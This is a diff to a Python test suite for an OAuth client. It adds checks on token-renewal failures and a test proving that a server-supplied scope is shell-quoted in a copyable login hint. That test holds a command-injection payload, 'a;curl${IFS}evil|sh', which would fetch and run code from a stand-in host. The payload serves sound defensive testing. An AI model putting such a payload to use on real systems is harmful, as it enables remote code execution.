@@ -6,6 +6,7 @@ import asyncio
 import base64
 import json
 import os
+import shlex
 import subprocess
 import sys
 from collections.abc import AsyncIterator
@@ -120,9 +121,18 @@ async def test_a_login_is_renewed_and_its_successor_handed_back(w: OAuthWorld) -
     assert w.token_requests()[-1]["refresh_token"] == "refresh-token-1"
     assert w.custody.credentials[-1]["refresh_token"] == "refresh-token-2"
     w.now += 3595
+    w.authority.answers["/token"] = lambda _: Response({"error": "temporarily_unavailable"}, 503)
+    with pytest.raises(OAuthError, match=r"refused \(temporarily_unavailable\)$"):
+        await w.ask(later)
+    w.now += 60
     w.authority.answers["/token"] = lambda _: Response({"error": "invalid_grant"}, 400)
     with pytest.raises(OAuthError, match=r"its login has ended .*: mlld sandbox login far"):
         await w.ask(later)
+    w.now += 60
+    asked, w.valid = w.authority.paths().count("/token"), set()
+    with pytest.raises(OAuthError, match="somebody has to log in to it"):
+        await w.ask(later)
+    assert w.authority.paths().count("/token") == asked  # what has ended is not tried again
 
 
 async def test_one_renewal_serves_everybody_who_waits(w: OAuthWorld) -> None:
@@ -202,6 +212,15 @@ async def test_a_token_is_bound_to_a_key_where_both_ends_want_it(w: OAuthWorld) 
 
 
 # --- what no server can make of it
+
+
+async def test_cannot_write_a_command_for_who_copies_the_hint(w: OAuthWorld) -> None:
+    w.challenge = 'scope="a;curl${IFS}evil|sh read"'
+    with pytest.raises(OAuthError) as raised:
+        await w.ask(w.authorizer(grant="authorization_code"))
+    hint = str(raised.value).partition(": ")[2]
+    assert shlex.split(hint) == ["mlld", "sandbox", "login", "far", "--scope", "a;curl${IFS}evil|sh", "--scope", "read"]
+    assert hint.endswith("--scope 'a;curl${IFS}evil|sh' --scope read")
 
 
 async def test_cannot_have_metadata_fetched_elsewhere(w: OAuthWorld) -> None:
